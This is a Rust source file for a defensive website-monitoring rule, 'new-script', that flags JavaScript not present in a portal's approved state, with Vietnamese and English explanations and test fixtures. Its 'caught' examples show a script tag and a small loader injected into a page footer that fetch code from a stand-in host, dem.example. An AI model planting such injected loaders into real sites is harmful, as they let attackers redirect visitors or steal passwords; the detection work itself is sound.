//! `new-script`: code that the portal never had.

use super::{
    ChangeKind, Facet, Standout, changes_of, code_signals, hit, host_of_script, loads_from, new,
};
use crate::{
    detect::{Answer, Example, Hit, Observation, Rule},
    finding::{Family, Signal, SignalKind, Text},
};

pub(in crate::detect) const RULE: Rule = Rule {
    id: "new-script",
    family: Family::Script,
    what: Text {
        vi: "Mã JavaScript chưa từng có trong trạng thái đã phê duyệt: tệp từ máy chủ lạ, tệp mới trên cổng, hoặc đoạn mã mới viết thẳng trong trang.",
        en: "JavaScript that the approved state does not have: a file from a foreign host, a new file on the portal, or new code in the page itself.",
    },
    why: Text {
        vi: "Một dòng mã mới đủ để chuyển hướng mọi khách, đánh cắp mật khẩu hoặc tải thêm mã khác vào bất cứ lúc nào.",
        en: "One new line of code is enough to move all visitors on, to steal passwords, or to load other code at any time.",
    },
    repair: Text {
        vi: "Tìm xem mã được thêm từ đâu (giao diện, plugin, cơ sở dữ liệu, thẻ quản lý) và ai đã thêm; gỡ nếu không phải của cơ quan, phê duyệt nếu đúng.",
        en: "Find where the code was added (theme, plugin, database, tag manager) and by whom; remove it if it is not the agency's, approve it if it is.",
    },
    examine,
    caught: &[
        Example::changed(
            "a file of an unknown host",
            r#"<body><h1>UBND huyện</h1><ul><li><a href="/gioi-thieu">Giới thiệu</a></ul><p>Hội nghị tổng kết năm</p><footer><a href="https://www.chinhphu.vn/">Chính phủ</a><a href="https://bao.example/">Báo tỉnh</a></footer></body>"#,
            &[Answer::all(
                r#"<body><h1>UBND huyện</h1><ul><li><a href="/gioi-thieu">Giới thiệu</a></ul><p>Hội nghị tổng kết năm</p><footer><a href="https://www.chinhphu.vn/">Chính phủ</a><a href="https://bao.example/">Báo tỉnh</a><script src="https://dem.example/a.js"></script></footer></body>"#,
            )],
        ),
        Example::changed(
            "code that loads more code",
            r#"<body><h1>UBND huyện</h1><ul><li><a href="/gioi-thieu">Giới thiệu</a></ul><p>Hội nghị tổng kết năm</p><footer><a href="https://www.chinhphu.vn/">Chính phủ</a><a href="https://bao.example/">Báo tỉnh</a></footer></body>"#,
            &[Answer::all(
                r#"<body><h1>UBND huyện</h1><ul><li><a href="/gioi-thieu">Giới thiệu</a></ul><p>Hội nghị tổng kết năm</p><footer><a href="https://www.chinhphu.vn/">Chính phủ</a><a href="https://bao.example/">Báo tỉnh</a><script>var s=document.createElement("script");s.src="https://dem.example/a.js";document.body.appendChild(s)</script></footer></body>"#,
            )],
        ),
    ],
    clean: &[
        Example::changed(
            "a counter that everybody uses",
            r#"<body><h1>UBND huyện</h1><ul><li><a href="/gioi-thieu">Giới thiệu</a></ul><p>Hội nghị tổng kết năm</p><footer><a href="https://www.chinhphu.vn/">Chính phủ</a><a href="https://bao.example/">Báo tỉnh</a></footer></body>"#,
            &[Answer::all(
                r#"<body><h1>UBND huyện</h1><ul><li><a href="/gioi-thieu">Giới thiệu</a></ul><p>Hội nghị tổng kết năm</p><footer><a href="https://www.chinhphu.vn/">Chính phủ</a><a href="https://bao.example/">Báo tỉnh</a><script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script></footer></body>"#,
            )],
        ),
        Example::changed(
            "the same code with other texts",
            r#"<body><h1>UBND huyện</h1><ul><li><a href="/gioi-thieu">Giới thiệu</a></ul><p>Hội nghị tổng kết năm</p><footer><a href="https://www.chinhphu.vn/">Chính phủ</a><a href="https://bao.example/">Báo tỉnh</a><script>var cauHoi="Bạn thấy cổng thế nào?";document.title</script></footer></body>"#,
            &[Answer::all(
                r#"<body><h1>UBND huyện</h1><ul><li><a href="/gioi-thieu">Giới thiệu</a></ul><p>Hội nghị tổng kết năm</p><footer><a href="https://www.chinhphu.vn/">Chính phủ</a><a href="https://bao.example/">Báo tỉnh</a><script>var cauHoi="Bạn biết tới cổng từ đâu?";document.title</script></footer></body>"#,
            )],
        ),
    ],
};

fn examine(observation: &Observation<'_>, hits: &mut Vec<Hit>) {
    for change in changes_of(observation, &[ChangeKind::NewScript]) {
        let mut signals = Vec::new();
        if change.facet == Some(Facet::Script)
            && let Some(host) = host_of_script(&change.value)
        {
            // A well-known service or a host that the owner vouches for is new, and no more.
            if let Some(named) = loads_from(observation, host) {
                signals.extend(named);
                signals.push(Signal::new(SignalKind::Loads, "script"));
            }
        } else {
            signals.extend(code_signals(observation, change));
            // Each article brings settings of its own along.
            if signals.is_empty() && change.setting.standout() != Standout::Strong {
                continue;
            }
        }
        signals.push(new("script"));
        hits.push(hit(observation, change, signals));
    }
}
